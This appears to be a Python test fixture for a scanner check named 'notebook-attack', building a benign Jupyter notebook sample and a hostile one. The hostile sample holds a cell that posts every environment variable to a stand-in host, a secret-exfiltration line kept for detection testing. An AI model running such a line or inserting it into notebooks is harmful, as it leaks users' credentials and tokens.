"""Samples of `notebook-attack`."""

from __future__ import annotations

import json
from pathlib import Path


def notebook(*cells: dict[str, object]) -> str:
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def code(source: str, *outputs: dict[str, object]) -> dict[str, object]:
    return {"cell_type": "code", "source": source, "outputs": outputs, "metadata": {}}


def bad(folder: Path) -> str:
    cell = code(
        "import os, requests\nrequests.post('http://example.invalid', json=dict(os.environ))"
    )
    (folder / "n.ipynb").write_text(notebook(code("%matplotlib inline\nx = 1"), cell))
    return "n.ipynb"


def good(folder: Path) -> None:
    cell = code(
        "!pip install numpy\nimport requests\npage = requests.get('http://example.invalid')"
    )
    (folder / "n.ipynb").write_text(notebook(cell))
